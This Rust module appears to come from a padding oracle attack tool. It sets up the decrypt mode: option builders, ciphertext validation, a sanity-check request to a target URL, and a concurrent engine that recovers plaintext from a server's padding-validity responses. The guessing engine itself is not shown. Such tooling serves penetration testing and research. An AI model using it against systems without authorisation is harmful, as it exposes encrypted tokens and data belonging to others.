// Decrypt-mode orchestration: recover the plaintext behind a ciphertext
// using only the oracle's padding-validity signal.

use std::collections::HashSet;
use std::sync::Arc;

use tracing::{info, warn};

use crate::cache::CacheStore;
use crate::engine::{EngineOptions, Mode, PaddingOracle, DEFAULT_CONCURRENCY};
use crate::error::{Error, Result};
use crate::oracle::{OracleCaller, RequestOptions, SuccessPredicate};
use crate::progress::{NoProgress, ProgressSink};
use crate::transform::PayloadTransform;
use crate::util::xor_bytes;

pub struct DecryptOptions<'a> {
    pub url: &'a str,
    pub block_size: usize,
    pub ciphertext: &'a [u8],
    pub is_decryption_success: SuccessPredicate<'a>,
    /// Known trailing plaintext bytes, e.g. from an interrupted run.
    pub already_found: Option<&'a [u8]>,
    pub start_from_first_block: bool,
    pub init_first_block_with_orig_bytes: bool,
    /// Make one bookend request with the untouched ciphertext to sanity
    /// check the predicate before probing.
    pub make_initial_request: bool,
    pub concurrency: usize,
    pub request: RequestOptions,
    pub transform: PayloadTransform,
    pub cache: Option<Arc<dyn CacheStore>>,
    pub progress: &'a dyn ProgressSink,
}

impl<'a> DecryptOptions<'a> {
    pub fn new(
        url: &'a str,
        block_size: usize,
        ciphertext: &'a [u8],
        is_decryption_success: SuccessPredicate<'a>,
    ) -> Self {
        Self {
            url,
            block_size,
            ciphertext,
            is_decryption_success,
            already_found: None,
            start_from_first_block: false,
            init_first_block_with_orig_bytes: false,
            make_initial_request: true,
            concurrency: DEFAULT_CONCURRENCY,
            request: RequestOptions::default(),
            transform: PayloadTransform::default(),
            cache: None,
            progress: &NoProgress,
        }
    }

    pub fn with_concurrency(mut self, concurrency: usize) -> Self {
        self.concurrency = concurrency;
        self
    }

    pub fn with_request(mut self, request: RequestOptions) -> Self {
        self.request = request;
        self
    }

    pub fn with_cache(mut self, cache: Arc<dyn CacheStore>) -> Self {
        self.cache = Some(cache);
        self
    }

    pub fn with_transform(mut self, transform: PayloadTransform) -> Self {
        self.transform = transform;
        self
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DecryptOutcome {
    pub block_count: usize,
    pub total_size: usize,
    /// Recovered plaintext, final-block padding included.
    pub found_bytes: Vec<u8>,
    pub inter_bytes: Vec<u8>,
}

pub async fn decrypt(options: DecryptOptions<'_>) -> Result<DecryptOutcome> {
    let DecryptOptions {
        url,
        block_size,
        ciphertext,
        is_decryption_success,
        already_found,
        start_from_first_block,
        init_first_block_with_orig_bytes,
        make_initial_request,
        concurrency,
        request,
        transform,
        cache,
        progress,
    } = options;

    if block_size == 0 {
        return Err(Error::InvalidBlockSize { block_size });
    }
    if ciphertext.is_empty() || ciphertext.len() % block_size != 0 {
        return Err(Error::MisalignedCiphertext {
            length: ciphertext.len(),
            block_size,
        });
    }
    let total_size = ciphertext.len();
    let block_count = total_size / block_size;
    let recoverable = total_size - block_size;

    let mut found_bytes = vec![0u8; recoverable];
    let mut inter_bytes = vec![0u8; recoverable];
    let mut found_offsets = HashSet::new();

    if let Some(known) = already_found.filter(|known| !known.is_empty()) {
        if known.len() > recoverable {
            return Err(Error::AlreadyFoundTooLong {
                length: known.len(),
                max: recoverable,
            });
        }
        let start = recoverable - known.len();
        let inter_seed = xor_bytes(known, &ciphertext[start..start + known.len()]);
        found_bytes[start..].copy_from_slice(known);
        inter_bytes[start..].copy_from_slice(&inter_seed);
        found_offsets.extend(start..recoverable);
    }

    let caller = OracleCaller::new(url, request, transform, cache)?;

    info!(blocks = block_count - 1, total_size, "decrypting");

    if make_initial_request {
        let initial = caller.call(ciphertext).await?;
        if !is_decryption_success(&initial) {
            let message = "decryption failed for the initial request with the original \
                           ciphertext; the parameter provided for determining decryption \
                           success seems to be incorrect";
            warn!("{message}");
            progress.warning(message);
        }
    }

    let mut engine = PaddingOracle::new(
        EngineOptions {
            caller: &caller,
            is_decryption_success,
            progress,
            mode: Mode::Decrypt,
            block_size,
            block_count,
            concurrency,
            start_from_first_block,
            init_first_block_with_orig: init_first_block_with_orig_bytes,
        },
        ciphertext.to_vec(),
        found_bytes,
        inter_bytes,
        found_offsets,
    );
    engine.process_blocks().await?;
    let (found_bytes, inter_bytes, _) = engine.into_buffers();

    info!("decryption complete");
    Ok(DecryptOutcome {
        block_count,
        total_size,
        found_bytes,
        inter_bytes,
    })
}
